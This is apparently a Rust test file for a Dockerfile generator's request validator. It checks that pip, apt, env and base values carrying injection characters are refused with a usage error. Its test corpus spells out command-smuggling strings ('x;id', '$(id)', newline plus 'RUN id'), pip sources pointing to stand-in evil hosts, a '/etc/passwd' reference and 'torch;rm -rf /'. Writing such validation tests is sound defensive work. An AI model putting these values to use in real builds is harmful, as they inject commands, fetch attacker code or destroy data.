//! The hostile corpus through `DockerfileRequest`: every bad value is a usage error naming its flag.

use super::{req, usage};
use rocmenv::dockerfile::Stack;

const HOSTILE: &[&str] = &[
    "",
    "x\n",
    "x\nRUN id",
    "x\r",
    "x\\\nRUN id",
    "x$(id)",
    "x${HOME}",
    "x`id`",
    "x'",
    "x\"",
    "x;id",
    "x&&id",
    "x|id",
    "x y",
    "x\ty",
    "x\0",
    "x\u{ff1b}id",
    "--index-url=http://evil",
    "-e git+https://evil.example/x.git",
    "x @ file:///etc/passwd",
];

#[test]
fn hostile_pip_apt_base_and_env_values_are_refused() {
    let long = "a".repeat(300);
    let corpus: Vec<&str> = HOSTILE
        .iter()
        .copied()
        .chain([long.as_str(), "numpy>/x", "<x"])
        .collect();
    for bad in &corpus {
        for stack in [Stack::Rocm, Stack::Ngc, Stack::Cpu] {
            let mut r = req(stack);
            r.pip = vec!["numpy".into(), bad.to_string()];
            assert_eq!(usage(&r).0, "pip", "{bad:?}");
            let mut r = req(stack);
            r.apt = vec![bad.to_string()];
            assert_eq!(usage(&r).0, "apt", "{bad:?}");
            let mut r = req(stack);
            r.env = vec![(bad.to_string(), "1".into())];
            assert_eq!(usage(&r).0, "env", "{bad:?}");
        }
        let mut r = req(Stack::Cpu);
        r.base = Some(bad.to_string());
        assert_eq!(usage(&r).0, "base", "{bad:?}");
    }
    // Values are printable text for ENV, so only the characters that change a Dockerfile line are refused.
    for bad in [
        "x\n",
        "x\\",
        "$(id)",
        "${HOME}",
        "`id`",
        "x\"",
        "x\r",
        "x\0",
        "x\u{ff1b}",
    ] {
        let mut r = req(Stack::Rocm);
        r.env = vec![("HSA_OVERRIDE_GFX_VERSION".into(), bad.to_string())];
        let (flag, message) = usage(&r);
        assert_eq!(flag, "env");
        assert!(message.contains("contains"), "{message}");
    }
}

#[test]
fn error_names_the_character() {
    let mut r = req(Stack::Cpu);
    r.pip = vec!["torch;rm -rf /".into()];
    let (_, message) = usage(&r);
    assert!(message.contains("contains `;`"), "{message}");
    let mut r = req(Stack::Cpu);
    r.base = Some("debian:bookworm\nRUN id".into());
    let (_, message) = usage(&r);
    assert!(message.contains("newline"), "{message}");
}
